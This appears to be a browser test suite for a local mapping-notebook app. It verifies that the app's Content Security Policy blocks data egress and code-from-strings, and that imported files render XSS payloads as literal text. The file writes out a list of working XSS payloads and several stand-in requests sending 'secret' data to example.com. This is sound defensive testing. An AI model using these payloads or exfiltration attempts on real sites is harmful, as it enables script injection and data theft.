/**
 * No egress, no code from data (docs/security.md).
 *
 * 1. The CSP stops every way a page could send data off the machine (fetch, XHR, WebSocket, beacon, images,
 *    frames, remote scripts, workers) and every way a string could become code (eval, inline scripts and
 *    handlers), and nothing reaches the network: the guard records no request.
 * 2. XSS payloads in GeoJSON properties, DBF fields, file and layer names, notebook markdown and case-bundle
 *    manifests go through the real import UI and the SQL console and show as literal text. This part runs with the CSP switched OFF (bypassCSP), so it
 *    proves the rendering itself is safe, not only that the CSP would catch a mistake: a payload that became
 *    HTML would run and count in `window.__xss`, or leave an element behind.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { BrowserContext, Page } from 'playwright-core';
import { readFileSync } from 'node:fs';
import { strToU8, unzipSync, zipSync } from 'fflate';
import {
  baseUrl,
  expectGuardClean,
  guardedPage,
  guardedProfile,
  newGuardedContext,
  screenshot,
  sharedBrowser,
  type Guard,
} from './harness.ts';
import { serializeNotebook } from '../../src/core/notebook/file.ts';
import { NOTEBOOK_SCHEMA_VERSION } from '../../src/core/notebook/model.ts';
import { writeBundleToBytes } from '../../src/io/zip-bundle.ts';
import type { LedgerEvent } from '../../src/core/model.ts';
import { sampleLedger, SAMPLE_SETTINGS } from '../golden/sample-ledger.ts';

const shared = sharedBrowser();

const REMOTE = 'https://example.com';

describe('CSP: nothing leaves the machine, no string becomes code', () => {
  let context: BrowserContext;
  let guard: Guard;
  let page: Page;

  beforeAll(async () => {
    ({ context, guard, page } = await guardedProfile(shared.browser));
    await page.goto(baseUrl());
    await page.getByTestId('app-title').waitFor();
    await page.evaluate(() => {
      const w = window as unknown as { __violations: string[]; __xss: number };
      w.__violations = [];
      w.__xss = 0;
      document.addEventListener('securitypolicyviolation', (event) =>
        w.__violations.push(`${event.effectiveDirective} ${event.blockedURI}`),
      );
    });
  });
  afterAll(async () => {
    await context?.close();
  });

  it('blocks an injected remote fetch, and every other way out, before the network', async () => {
    const results = await page.evaluate(async (remote) => {
      const attempt = async (run: () => Promise<unknown>): Promise<string> => {
        try {
          await run();
          return 'sent';
        } catch (error) {
          return `blocked: ${error instanceof Error ? error.name : String(error)}`;
        }
      };
      const loads = (element: HTMLImageElement | HTMLIFrameElement | HTMLScriptElement) =>
        new Promise<void>((resolve, reject) => {
          element.onload = () => resolve();
          element.onerror = () => reject(new Error('error event'));
          document.body.append(element);
          setTimeout(() => reject(new Error('no load')), 3000);
        });
      const image = document.createElement('img');
      image.src = `${remote}/pixel.png?data=secret`;
      const script = document.createElement('script');
      script.src = `${remote}/x.js`;
      const worker = new Worker(
        URL.createObjectURL(
          new Blob(
            [
              `fetch('${remote}/from-worker').then(() => postMessage('sent'), (e) => postMessage('blocked: ' + e.name));`,
            ],
            { type: 'text/javascript' },
          ),
        ),
      );
      const fromWorker = new Promise<string>((resolve) => {
        worker.onmessage = (event) => resolve(String(event.data));
        setTimeout(() => resolve('no answer'), 5000);
      });
      // sendBeacon only queues (it returns true): the CSP refuses it when it is sent, checked below.
      navigator.sendBeacon(`${remote}/beacon`, 'secret');
      return {
        fetch: await attempt(() => fetch(`${remote}/collect`, { method: 'POST', body: 'secret' })),
        xhr: await attempt(
          () =>
            new Promise((resolve, reject) => {
              const xhr = new XMLHttpRequest();
              xhr.open('GET', `${remote}/xhr`);
              xhr.onload = resolve;
              xhr.onerror = () => reject(new Error('xhr error'));
              xhr.send();
            }),
        ),
        websocket: await attempt(
          () =>
            new Promise((resolve, reject) => {
              const socket = new WebSocket('wss://example.com/socket');
              socket.onopen = resolve;
              socket.onerror = () => reject(new Error('socket error'));
            }),
        ),
        image: await attempt(() => loads(image)),
        script: await attempt(() => loads(script)),
        module: await attempt(() => import(/* @vite-ignore */ `${remote}/module.js`)),
        worker: await fromWorker,
      };
    }, REMOTE);
    for (const [way, result] of Object.entries(results)) expect(result, way).toMatch(/^blocked/);
    await page.waitForTimeout(1000);
    const violations = await page.evaluate(
      () => (window as unknown as { __violations: string[] }).__violations,
    );
    console.log(`CSP violations reported: ${violations.join(' | ')}`);
    for (const path of ['/collect', '/xhr', '/beacon'])
      expect(violations).toContain(`connect-src https://example.com${path}`);
    expect(violations.some((v) => v.startsWith('img-src https://example.com'))).toBe(true);
    expect(violations.some((v) => v.startsWith('script-src-elem https://example.com'))).toBe(true);
    // Nothing got as far as the network: the guard that aborts off-origin requests saw none.
    expect(guard.offOrigin).toEqual([]);
    // The only console errors are the CSP's own refusals.
    expect(guard.consoleErrors.filter((e) => !/Content Security Policy|Failed to fetch/.test(e))).toEqual([]);
  });

  it('refuses eval, new Function, inline scripts and inline event handlers', async () => {
    const results = await page.evaluate(async () => {
      const w = window as unknown as { __xss: number };
      const outcome = (run: () => unknown): string => {
        try {
          run();
          return 'ran';
        } catch (error) {
          return `blocked: ${error instanceof Error ? error.name : String(error)}`;
        }
      };
      const inline = document.createElement('script');
      inline.textContent = 'window.__xss += 1';
      document.body.append(inline);
      const holder = document.createElement('div');
      // Deliberately unsafe (this is what the app never does): the CSP must still stop the handler.
      holder.innerHTML = '<img src="x" onerror="window.__xss += 1">';
      document.body.append(holder);
      const link = document.createElement('a');
      link.href = 'javascript:window.__xss += 1';
      document.body.append(link);
      link.click();
      await new Promise((resolve) => setTimeout(resolve, 500));
      return {
        eval: outcome(() => eval('window.__xss += 1')),
        function: outcome(() => new Function('window.__xss += 1')()),
        timerString: outcome(() => (setTimeout as (code: string) => number)('window.__xss += 1')),
        executions: w.__xss,
      };
    });
    await page.waitForTimeout(300);
    expect(results.eval).toMatch(/^blocked: EvalError/);
    expect(results.function).toMatch(/^blocked: EvalError/);
    expect(results.executions).toBe(0);
    expect(await page.evaluate(() => (window as unknown as { __xss: number }).__xss)).toBe(0);
    expect(guard.offOrigin).toEqual([]);
  });
});

/** Payloads that run `window.__xss += 1` if they are ever parsed as HTML or followed as a URL. */
const PAYLOADS = [
  '<img src=x onerror="window.__xss+=1">',
  '<script>window.__xss+=1</script>',
  '"><svg onload="window.__xss+=1">',
  'javascript:window.__xss+=1',
  "'><iframe srcdoc='<script>parent.__xss+=1</script>'></iframe>",
  '{{constructor.constructor("window.__xss+=1")()}}',
];
/** Elements a payload would leave behind if it were parsed as HTML. */
const PAYLOAD_TRACES =
  'img[src="x"], svg[onload], [onerror], [onload], iframe, a[href^="javascript:" i], script:not([src])';

function payloadGeoJson(): string {
  const properties: Record<string, string> = { 名称: PAYLOADS[0] ?? '' };
  PAYLOADS.forEach((payload, i) => {
    properties[`field${i}`] = payload;
    properties[payload] = `key ${i}`;
  });
  return JSON.stringify({
    type: 'FeatureCollection',
    features: [
      {
        type: 'Feature',
        properties,
        geometry: {
          type: 'Polygon',
          coordinates: [
            [
              [109.1, 21.5],
              [109.2, 21.5],
              [109.2, 21.6],
              [109.1, 21.5],
            ],
          ],
        },
      },
    ],
  });
}

/** A dBASE table of text fields: `rows` records, every value a payload, names up to 10 bytes. */
function payloadDbf(rows: number): Uint8Array {
  const names = ['<i>nm</i>', '"><b>x', 'note'];
  const width = 200;
  const headerLength = 32 + 32 * names.length + 1;
  const recordLength = 1 + width * names.length;
  const out = new Uint8Array(headerLength + rows * recordLength + 1).fill(0x20);
  const view = new DataView(out.buffer);
  out.fill(0, 0, headerLength);
  out[0] = 0x03;
  view.setUint32(4, rows, true);
  view.setUint16(8, headerLength, true);
  view.setUint16(10, recordLength, true);
  names.forEach((name, i) => {
    const at = 32 + 32 * i;
    out.set(strToU8(name), at);
    out[at + 11] = 0x43; // 'C'
    out[at + 16] = width;
  });
  out[headerLength - 1] = 0x0d;
  for (let r = 0; r < rows; r += 1) {
    const at = headerLength + r * recordLength;
    out[at] = 0x20;
    names.forEach((_, i) => {
      const text = strToU8(PAYLOADS[(r + i) % PAYLOADS.length] ?? '').subarray(0, width);
      out.set(text, at + 1 + width * i);
    });
  }
  out[out.length - 1] = 0x1a;
  return out;
}

/** A real shapefile (tests/fixtures) renamed to a payload, with a payload attribute table. */
function payloadShapefileZip(): Uint8Array {
  const parts = unzipSync(new Uint8Array(readFileSync('tests/fixtures/vector/holes_4545_utf8.zip')));
  const dbf = parts['holes.dbf'];
  if (!dbf) throw new Error('fixture without .dbf');
  const rows = new DataView(dbf.buffer, dbf.byteOffset).getUint32(4, true);
  const stem = '"><svg onload="window.__xss+=1">';
  return zipSync({
    [`${stem}.shp`]: parts['holes.shp'] ?? new Uint8Array(),
    [`${stem}.shx`]: parts['holes.shx'] ?? new Uint8Array(),
    [`${stem}.prj`]: parts['holes.prj'] ?? new Uint8Array(),
    [`${stem}.cpg`]: strToU8('UTF-8'),
    [`${stem}.dbf`]: payloadDbf(rows),
  });
}

describe('XSS payloads in imported data show as text (CSP off)', () => {
  let context: BrowserContext;
  let page: Page;
  let guard: Guard;

  beforeAll(async () => {
    // The browser’s default locale, not the zh-CN of the other profiles.
    ({ context, guard } = await newGuardedContext(shared.browser, {
      contextOptions: { bypassCSP: true, locale: undefined },
    }));
    await context.addInitScript(() => {
      const w = window as unknown as { __xss: number };
      w.__xss = 0;
      Object.defineProperty(window, 'hit', { set: () => (w.__xss += 1), get: () => 0 });
    });
    // Uncaught exceptions only: payloads such as <img src=x> may log failed loads without running anything.
    page = await guardedPage(context, guard, { uncaughtOnly: true });
    await page.goto(baseUrl());
    await page.locator('[data-testid="db-status"][data-state="ready"]').waitFor({ timeout: 60_000 });
  });
  afterAll(async () => {
    await context?.close();
  });

  const executions = () => page.evaluate(() => (window as unknown as { __xss: number }).__xss);
  const traces = () =>
    page.evaluate((selector) => document.querySelectorAll(selector).length, PAYLOAD_TRACES);

  it('GeoJSON: payload property names and values, file name and typed layer name', async () => {
    await page.getByTestId('file-input').setInputFiles({
      name: `${PAYLOADS[2]}.geojson`,
      mimeType: 'application/geo+json',
      buffer: Buffer.from(payloadGeoJson()),
    });
    const dialog = page.getByTestId('import-dialog');
    await expect.poll(() => dialog.isVisible(), { timeout: 30_000 }).toBe(true);
    const text = (await dialog.textContent()) ?? '';
    for (const payload of PAYLOADS) expect(text).toContain(payload); // field names, literally
    expect(text).toContain(`${PAYLOADS[2]}.geojson`);
    await page.getByTestId('import-name').fill(PAYLOADS[0] ?? '');
    await page.getByTestId('import-confirm').click();
    await expect.poll(() => page.getByTestId('layer-item').count(), { timeout: 30_000 }).toBe(1);
    expect(await page.getByTestId('layer-item').locator('.name').textContent()).toBe(PAYLOADS[0]);
    expect(await executions()).toBe(0);
    expect(await traces()).toBe(0);
  });

  it('shapefile: payload DBF values and field names, payload shapefile name', async () => {
    await page.getByTestId('file-input').setInputFiles({
      name: 'payload-shapefile.zip',
      mimeType: 'application/zip',
      buffer: Buffer.from(payloadShapefileZip()),
    });
    const dialog = page.getByTestId('import-dialog');
    await expect.poll(() => dialog.isVisible(), { timeout: 30_000 }).toBe(true);
    const text = (await dialog.textContent()) ?? '';
    expect(text).toContain('<i>nm</i>');
    expect(text).toContain('"><b>x');
    expect(await page.getByTestId('import-name').inputValue()).toBe('"><svg onload="window.__xss+=1">');
    await page.getByTestId('import-confirm').click();
    await expect.poll(() => page.getByTestId('layer-item').count(), { timeout: 30_000 }).toBe(2);
    const names = await page.getByTestId('layer-item').locator('.name').allTextContents();
    expect(names).toContain('"><svg onload="window.__xss+=1">');
    expect(await executions()).toBe(0);
    expect(await traces()).toBe(0);
  });

  it('a refused file with a payload name: the error notice shows it as text', async () => {
    await page.getByTestId('file-input').setInputFiles({
      name: `${PAYLOADS[1]}.geojson`,
      mimeType: 'application/geo+json',
      buffer: Buffer.from('{"type": "FeatureCollection", "features": [ broken'),
    });
    const notice = page.getByTestId('notice-message').last();
    await expect.poll(() => notice.isVisible(), { timeout: 30_000 }).toBe(true);
    expect(await notice.textContent()).toContain(`${PAYLOADS[1]}.geojson`);
    expect(await executions()).toBe(0);
    expect(await traces()).toBe(0);
  });

  it('attribute values read back through the SQL console show literally', async () => {
    await page.getByTestId('tab-notebook').click();
    await page.getByTestId('sql-input').first().fill('SELECT props FROM feature');
    await page.getByTestId('sql-run').first().click();
    const result = page.getByTestId('sql-result').first();
    await expect.poll(() => result.isVisible(), { timeout: 30_000 }).toBe(true);
    const text = (await result.textContent()) ?? '';
    // props is JSON text, so quotes inside values are escaped; the rest of each payload is literal.
    for (const payload of PAYLOADS) expect(text).toContain(JSON.stringify(payload).slice(1, -1));
    await page.getByTestId('sql-input').first().fill(`SELECT '${PAYLOADS[0]}' AS v`);
    await page.getByTestId('sql-run').first().click();
    await expect.poll(() => result.locator('tbody td').last().textContent()).toBe(PAYLOADS[0]);
    await screenshot(page, 'security-xss-literal');
    await page.waitForTimeout(500); // let any late onerror/onload fire
    expect(await executions()).toBe(0);
    expect(await traces()).toBe(0);
    expectGuardClean(guard);
  });

  it('notebook file: a payload name and markdown with raw HTML, script links and images render as text', async () => {
    // Markdown eats `__` (emphasis), so these payloads count through `window.hit` (an alias of __xss).
    const html = [
      '<img src=x onerror="window.hit=1">',
      '<script>window.hit=1</script>',
      '"><svg onload="window.hit=1">',
      "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    ];
    const markdown = [
      `# ${html[0]}`,
      `Text ${html[1]} and **${html[2]}**`,
      '[click me](javascript:window.hit=1) [data](data:text/html,<script>parent.hit=1</script>) [ok](https://example.com/safe)',
      '![pic](x" onerror="window.hit=1)',
      html[3],
      '`<b>code</b>`',
    ].join('\n\n');
    const file = serializeNotebook({
      schemaVersion: NOTEBOOK_SCHEMA_VERSION,
      id: 'nb-xss',
      projectId: 'elsewhere',
      name: PAYLOADS[2] ?? 'x',
      createdAt: '2026-11-22T08:00:00.000Z',
      updatedAt: '2026-11-22T08:00:00.000Z',
      cells: [{ id: 'c-xss', kind: 'markdown', source: markdown }],
      outputs: {},
    });
    await page.getByTestId('tab-notebook').click();
    await page.getByTestId('nb-import-input').setInputFiles({
      name: `${PAYLOADS[0]}.rnb.json`,
      mimeType: 'application/json',
      buffer: Buffer.from(file),
    });
    const view = page.getByTestId('markdown-view').last();
    await expect.poll(() => view.isVisible(), { timeout: 30_000 }).toBe(true);
    const shown = (await view.textContent()) ?? '';
    for (const payload of [...html, '<b>code</b>', 'javascript:window.hit=1'])
      expect(shown).toContain(payload);
    // Only the http(s) link became a link; the script and data: URLs stayed text.
    const hrefs = await view.locator('a').evaluateAll((links) => links.map((a) => a.getAttribute('href')));
    expect(hrefs).toEqual(['https://example.com/safe']);
    expect(await page.getByTestId('notebook-panel').textContent()).toContain(PAYLOADS[2]);
    await screenshot(page, 'security-xss-markdown');
    expect(await executions()).toBe(0);
    expect(await traces()).toBe(0);
  });

  it('case bundle: payloads in the project name, creator and event notes show as text in the preview', async () => {
    const events = sampleLedger().map((event) =>
      'note' in event.payload
        ? ({ ...event, payload: { ...event.payload, note: PAYLOADS[1] } } as LedgerEvent)
        : event,
    );
    const { bytes } = await writeBundleToBytes(
      {
        appVersion: '0.1.0',
        created: new Date('2026-11-22T08:00:00Z'),
        creator: { actor: PAYLOADS[0] ?? 'x', device: PAYLOADS[2] ?? 'x' },
        project: { id: 'p-xss', name: PAYLOADS[4] ?? 'x', settings: SAMPLE_SETTINGS },
      },
      events,
    );
    await page.getByTestId('tab-exports').click();
    await page.getByTestId('import-file').setInputFiles({
      name: `${PAYLOADS[3]}.zip`,
      mimeType: 'application/zip',
      buffer: Buffer.from(bytes),
    });
    const preview = page.getByTestId('import-preview');
    await expect.poll(() => preview.isVisible(), { timeout: 60_000 }).toBe(true);
    const shown = (await preview.textContent()) ?? '';
    expect(shown).toContain(PAYLOADS[4]);
    expect(shown).toContain(PAYLOADS[0]);
    await preview.scrollIntoViewIfNeeded();
    await screenshot(page, 'security-xss-bundle-preview');
    expect(await executions()).toBe(0);
    expect(await traces()).toBe(0);
  });

  it('deleting the project removes its records (IndexedDB) and its files (OPFS)', async () => {
    const inventory = () =>
      page.evaluate(async () => {
        const db = await new Promise<IDBDatabase>((resolve, reject) => {
          const request = indexedDB.open('redline-notebook');
          request.onsuccess = () => resolve(request.result);
          request.onerror = () => reject(request.error);
        });
        const counts: Record<string, number> = {};
        for (const name of Array.from(db.objectStoreNames))
          counts[name] = await new Promise<number>((resolve) => {
            const count = db.transaction(name).objectStore(name).count();
            count.onsuccess = () => resolve(count.result);
          });
        db.close();
        let files = 0;
        const walk = async (dir: FileSystemDirectoryHandle): Promise<void> => {
          for await (const [, handle] of dir as unknown as AsyncIterable<[string, FileSystemHandle]>)
            if (handle.kind === 'file') files += 1;
            else await walk(handle as FileSystemDirectoryHandle);
        };
        await walk(await navigator.storage.getDirectory());
        return { ...counts, opfsFiles: files } as Record<string, number>;
      });
    const before = await inventory();
    expect(before.projects).toBe(1);
    expect(before.layers).toBeGreaterThanOrEqual(2);
    expect(before.opfsFiles).toBeGreaterThanOrEqual(2);
    await page.getByTestId('project-delete').click();
    await page.getByTestId('confirm-ok').click();
    await expect.poll(() => page.getByTestId('project-item').count()).toBe(0);
    await expect
      .poll(async () => {
        const { settings: _settings, ...left } = await inventory();
        return Object.values(left).reduce((a, b) => a + b, 0);
      })
      .toBe(0);
  });

  it('control: the detector does see a payload that is parsed as HTML', async () => {
    // Proves the zero above means something: with the CSP off, one unsafe insertion runs and leaves a trace.
    await page.evaluate((payload) => {
      const holder = document.createElement('div');
      holder.innerHTML = payload;
      document.body.append(holder);
    }, PAYLOADS[0] ?? '');
    await expect.poll(executions).toBe(1);
    expect(await traces()).toBeGreaterThan(0);
  });
});
